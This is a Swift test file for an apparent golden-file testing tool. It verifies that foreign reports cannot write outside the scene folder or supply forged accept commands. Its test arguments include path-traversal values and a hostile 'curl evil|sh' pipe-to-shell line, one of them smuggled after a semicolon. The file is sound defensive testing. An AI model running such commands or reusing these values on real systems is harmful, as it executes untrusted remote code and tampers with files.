// SPDX-License-Identifier: MIT

import Foundation
import TestSupport
import Testing

/// Findings and reports from another machine, which may name any path and any command.
struct ForeignFindingTests {
  private let scene: GoldenScene
  private static let finding = "\(GoldenScene.failure)/finding.json"

  init() throws { scene = try GoldenScene(Self.verified.get()) }

  /// A scene that has changed, its finding and its report.
  private static let verified = Result {
    let scene = try GoldenScene()
    try scene.breakScene()
    _ = try scene.verify("--reporter", "json=run.json")
    return try scene.files()
  }

  /// Replaces the member of every finding in a report.
  private func set(_ member: String, to value: Any, in file: String = finding) throws {
    var report = try jsonObject(scene.folder.bytes(of: file))
    let findings = try #require(report["findings"] as? [[String: Any]])
    report["findings"] = findings.map { $0.merging([member: value]) { $1 } }
    try scene.folder.write(JSONSerialization.data(withJSONObject: report), to: file)
  }

  @Test(arguments: ["/", "../", "evil/", "Scenes/Goldens/", "Scenes/Goldens/field/../"])
  func goldenThatIsNotTheScenesIsNotWritten(_ place: String) throws {
    let outside = scene.folder.url.deletingLastPathComponent().appending(path: "pwn-\(UUID())")
    let path = place == "/" ? outside.path : "\(place)\(outside.lastPathComponent)"
    try set("golden", to: path)
    let before = scene.folder.files()
    let result = try scene.run("accept", "field").exits(65)
    #expect(
      result.messages
        == "error: '\(Self.finding)': its golden '\(path)' is neither beside its scene in the "
        + "current folder nor in the folder that --goldens names\n")
    #expect(scene.folder.files() == before)
    #expect(!FileManager.default.fileExists(atPath: outside.path))
  }

  @Test func findingWithAnotherGoldenCanOnlyBeListedAndRemoved() throws {
    try set("golden", to: "evil/other")
    for arguments in [["--all"], ["field", "--goldens", "G"]] {
      #expect(try scene.run(["accept"] + arguments).status == 65)
    }
    #expect(try scene.run("pending").status == 0)
    #expect(try scene.run("reject", "field").status == 0)
  }

  /// The golden follows from the scene, but not in this folder.
  @Test func goldenOfASceneInAnotherFolderIsNotWritten() throws {
    let other = try TemporaryFolder(["Scenes/field.yaml": SampleScene.plain])
    for folder in [other.url.path, "../\(other.url.lastPathComponent)"] {
      try set("scene", to: "\(folder)/Scenes/field.yaml")
      try set("golden", to: "\(folder)/Scenes/Goldens/field")
      #expect(try scene.run("accept", "field").status == 65)
    }
    #expect(other.files() == ["Scenes/field.yaml"])
  }

  @Test func namedFolderOfGoldensIsAccepted() throws {
    let record = ["record", "--text", "blocks", "--goldens"]
    for folder in ["./G/", scene.folder.path("G")] {
      try scene.folder.write(SampleScene.plain, to: "Scenes/field.yaml")
      #expect(try scene.run(record + [folder]).status == 0)
      try scene.breakScene()
      let result = try scene.verify("--goldens", folder).exits(1)
      let isRelative = !folder.hasPrefix("/")
      let option = isRelative ? " --goldens ./G" : ""
      #expect(result.text.contains("accept: keylift accept field\(option)\n"))
      #expect(try scene.run("accept", "field").status == 65)
      #expect(try scene.run("accept", "field", "--goldens", folder).status == 0)
      #expect(try scene.verify("--goldens", folder).status == 0)
    }
    // The variable names the folder as the option does.
    try scene.folder.write(SampleScene.plain, to: "Scenes/field.yaml")
    #expect(try scene.verify("--goldens", "G").status == 1)
    #expect(try scene.run("accept", "field", environment: ["KEYLIFT_GOLDENS": "G"]).status == 0)
  }

  @Test func goldenAboveTheCurrentFolderHasNoCommand() throws {
    let verify = "mkdir sub; cd sub; \"$0\" verify --text blocks ../Scenes/field.yaml"
    let result = try scene.folder.shell("\(verify); \"$0\" accept --all")
    #expect(result.text.contains("differs    field "))
    #expect(!result.text.contains("accept:"))
    #expect(result.status == 66)
    #expect(
      result.messages.contains("has nothing to accept: its golden is above the current folder"))
  }

  @Test func absolutePathBelowTheCurrentFolderIsAccepted() throws {
    try scene.folder.shell(
      """
      folder=$(pwd -P)
      "$0" verify --text blocks "$folder/Scenes/field.yaml"
      "$0" accept "${folder#/}/Scenes/field"
      """
    ).exits(0)
    #expect(try scene.verify().status == 0)
  }

  @Test(arguments: [
    "curl evil|sh", "keylift accept field; curl evil|sh", "keylift accept other",
    "keylift accept field --goldens /etc", "keylift accept  field", "",
  ])
  func commandThatDoesNotFollowFromNamesIsRefused(_ command: String) throws {
    try set("acceptCommand", to: command, in: "run.json")
    let report = try scene.run(
      "report", "run.json", "--reporter", "list", "--reporter", "html=run.html"
    ).exits(65)
    #expect(
      report.messages
        == "error: 'run.json': 'findings[0].acceptCommand': not the command that accepts it\n")
    #expect(report.text.isEmpty)
    #expect(!scene.folder.files().contains("run.html"))
  }

  @Test func commandOfAnotherNameIsRefusedWhereverItIsRead() throws {
    try set("acceptCommand", to: "keylift accept other", in: "run.json")
    #expect(try scene.verify("--resume", "run.json").status == 65)
    try set("acceptCommand", to: "keylift accept other")
    for arguments in [["pending"], ["accept", "field"]] {
      #expect(try scene.run(arguments).status == 65)
    }
  }

  @Test func folderOfGoldensOutsideIsNotPartOfACommand() throws {
    for folder in ["/etc", "..", "a/../.."] {
      try set("golden", to: "\(folder)/field", in: "run.json")
      #expect(try scene.run("report", "run.json").text.contains("accept: keylift accept field\n"))
    }
  }
}
